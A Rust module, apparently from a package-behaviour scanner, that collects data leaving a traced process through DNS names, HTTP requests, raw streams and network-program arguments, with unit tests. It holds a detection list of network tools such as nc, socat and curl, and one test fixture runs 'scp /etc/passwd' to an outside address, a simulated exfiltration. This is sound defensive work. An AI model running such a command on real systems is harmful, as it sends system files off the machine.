//! Everything that leaves the machine, gathered from all doors: DNS names, requests with their headers, raw bytes, and the
//! arguments of network programs.

use super::hosts::{Reach, host_of, parent_of, reach};
use super::layers::{Budget, Layer, layers};
use super::{commands, hosts};
use crate::trace::{Event, Kind, Trace};
use std::collections::BTreeMap;

/// The door through which bytes leave.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Via {
    /// Names below one domain.
    Dns,
    /// A request: its address, headers and body.
    Http,
    /// Bytes on a connection.
    Stream,
    /// Arguments of a network program.
    Arguments,
}

impl Via {
    /// How a sentence names it.
    #[must_use]
    pub fn phrase(self) -> &'static str {
        match self {
            Via::Dns => "in DNS names",
            Via::Http => "in a request",
            Via::Stream => "over a connection",
            Via::Arguments => "in the arguments of a network program",
        }
    }
}

/// Bytes that leave for one host.
#[derive(Clone, Debug)]
pub struct Outgoing<'t> {
    /// Where to; for DNS the domain below which the names lie.
    pub host: String,
    /// How near that is to the package.
    pub reach: Reach,
    /// Through which door.
    pub via: Via,
    /// The events that carry them.
    pub events: Vec<&'t Event>,
    /// The bytes and what decoding makes of them.
    pub layers: Vec<Layer>,
}

/// Gathers what leaves, in the order in which it starts to leave.
pub(super) fn gather(trace: &Trace) -> Vec<Outgoing<'_>> {
    let mut streams: BTreeMap<(u32, u32, &str), Vec<&Event>> = BTreeMap::new();
    let mut names: BTreeMap<(u32, String), Vec<&Event>> = BTreeMap::new();
    let mut drafts: Vec<(Via, String, Vec<&Event>, Vec<u8>)> = Vec::new();
    for event in &trace.events {
        match event.kind {
            Kind::NetHttp => {
                let text = request(trace, event);
                drafts.push((Via::Http, host_of(&event.subject), vec![event], text));
            }
            Kind::NetSend => streams
                .entry((event.run, event.pid, &event.subject))
                .or_default()
                .push(event),
            Kind::NetDns => {
                let name = host_of(&event.subject);
                let parent = parent_of(&name).to_owned();
                names.entry((event.run, parent)).or_default().push(event);
            }
            Kind::ProcSpawn => {
                if let Some((host, text)) = arguments(trace, event) {
                    drafts.push((Via::Arguments, host, vec![event], text));
                }
            }
            _ => {}
        }
    }
    for ((_, _, subject), events) in streams {
        let mut bytes = Vec::new();
        for payload in events.iter().filter_map(|event| event.payload.as_ref()) {
            bytes.extend_from_slice(trace.blobs.get(payload).map_or(&[], |bytes| bytes));
        }
        drafts.push((Via::Stream, host_of(subject), events, bytes));
    }
    for ((_, parent), events) in names {
        let text = queries(&parent, &events);
        drafts.push((Via::Dns, parent, events, text));
    }
    drafts.sort_by_key(|(via, _, events, _)| (events.first().map(|event| event.seq), *via));
    decode_all(trace, drafts)
}

fn decode_all<'t>(
    trace: &'t Trace,
    drafts: Vec<(Via, String, Vec<&'t Event>, Vec<u8>)>,
) -> Vec<Outgoing<'t>> {
    let mut budget = Budget::default();
    let mut all = Vec::new();
    for (via, host, events, bytes) in drafts {
        let reach = reach(&trace.header, &host);
        if reach != Reach::Local {
            let layers = layers(&bytes, &mut budget);
            all.push(Outgoing {
                host,
                reach,
                via,
                events,
                layers,
            });
        }
    }
    all
}

/// A request as text: address, headers, body.
fn request(trace: &Trace, event: &Event) -> Vec<u8> {
    let mut text = event.subject.clone().into_bytes();
    let headers = event
        .detail
        .iter()
        .filter(|(name, _)| name.starts_with("header."));
    for (name, value) in headers {
        text.extend_from_slice(format!("\n{name}: {value}").as_bytes());
    }
    text.extend_from_slice(b"\n\n");
    if let Some(body) = event
        .payload
        .as_ref()
        .and_then(|digest| trace.blobs.get(digest))
    {
        text.extend_from_slice(body);
    }
    text
}

/// The labels below a domain, in every order in which a text may have been cut into them: name by name, all labels, only
/// the longest or the first of each name.
fn queries(parent: &str, events: &[&Event]) -> Vec<u8> {
    let mut prefixes: Vec<String> = events
        .iter()
        .filter_map(|event| {
            let name = event.subject.trim_end_matches('.');
            let length = name.len().checked_sub(parent.len())?;
            Some(name.get(..length)?.trim_end_matches('.').to_owned())
        })
        .collect();
    // One name is asked for once for each address family.
    prefixes.dedup();
    let counter = |label: &&str| label.len() <= 4 && label.bytes().all(|b| b.is_ascii_digit());
    let words = |prefix: &String| {
        let labels = prefix.split('.').filter(|label| !counter(label));
        labels.map(str::to_owned).collect::<Vec<_>>()
    };
    let labels: Vec<Vec<String>> = prefixes.iter().map(words).collect();
    let longest = labels
        .iter()
        .filter_map(|l| l.iter().max_by_key(|label| label.len()));
    let first = labels.iter().filter_map(|l| l.first());
    [
        prefixes.join(" "),
        labels.concat().concat(),
        longest.cloned().collect::<String>(),
        first.cloned().collect::<String>(),
    ]
    .join(" ")
    .into_bytes()
}

/// Programs that carry their arguments to another machine.
const NETWORK_PROGRAMS: &[&str] = &[
    "aws", "curl", "dig", "ftp", "git", "gsutil", "host", "http", "nc", "ncat", "netcat",
    "nslookup", "ping", "rclone", "rsync", "scp", "sftp", "socat", "ssh", "telnet", "wget",
];

/// The host and the text of the arguments of a network program, if this is one and it names a host.
fn arguments(trace: &Trace, event: &Event) -> Option<(String, Vec<u8>)> {
    let argv = commands::argv(trace, event);
    if !NETWORK_PROGRAMS.contains(&commands::program_name(event, &argv).as_str()) {
        return None;
    }
    let host = argv
        .iter()
        .skip(1)
        .find_map(|argument| argument_host(argument))?;
    Some((host, argv.join("\n").into_bytes()))
}

/// The host that an argument names: of an address, of `user@host:path`, or a dotted name.
fn argument_host(argument: &str) -> Option<String> {
    if argument.starts_with('-') {
        return None;
    }
    if argument.contains("://") {
        return Some(host_of(argument));
    }
    let text = argument.rsplit('@').next().unwrap_or(argument);
    let text = text.split(':').next().unwrap_or(text);
    let is_name = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-');
    (text.contains('.') && text.bytes().all(is_name) && !text.starts_with('.'))
        .then(|| hosts::host_of(text))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::TraceBuilder;

    fn host_and_text(trace: &Trace) -> Vec<(String, String)> {
        let text = |o: &Outgoing<'_>| String::from_utf8_lossy(&o.layers[0].bytes).into_owned();
        gather(trace)
            .iter()
            .map(|o| (o.host.clone(), text(o)))
            .collect()
    }

    #[test]
    fn labels_of_one_domain_are_joined() {
        let mut builder = TraceBuilder::new();
        builder.event(Kind::NetDns, "1.aaaa.bb.x.example");
        builder.event(Kind::NetDns, "2.cccc.dd.x.example");
        let found = host_and_text(&builder.finish());
        assert_eq!(found.len(), 1);
        assert!(found[0].1.contains("aaaabbcccc"), "{found:?}");
    }

    #[test]
    fn a_stream_is_joined_and_nothing_leaves_for_the_machine_itself() {
        let mut builder = TraceBuilder::new();
        builder.payload(Kind::NetSend, "x.example:9", b"one");
        builder.payload(Kind::NetSend, "127.0.0.1:9", b"local");
        builder.payload(Kind::NetSend, "x.example:9", b"two");
        assert_eq!(
            host_and_text(&builder.finish()),
            [("x.example".into(), "onetwo".into())]
        );
    }

    #[test]
    fn arguments_of_network_programs_leave() {
        let mut builder = TraceBuilder::new();
        builder.spawn(&["scp", "/etc/passwd", "u@203.0.113.4:/x"]);
        builder.spawn(&["node", "https://x.example"]);
        let found = host_and_text(&builder.finish());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].0, "203.0.113.4");
    }
}
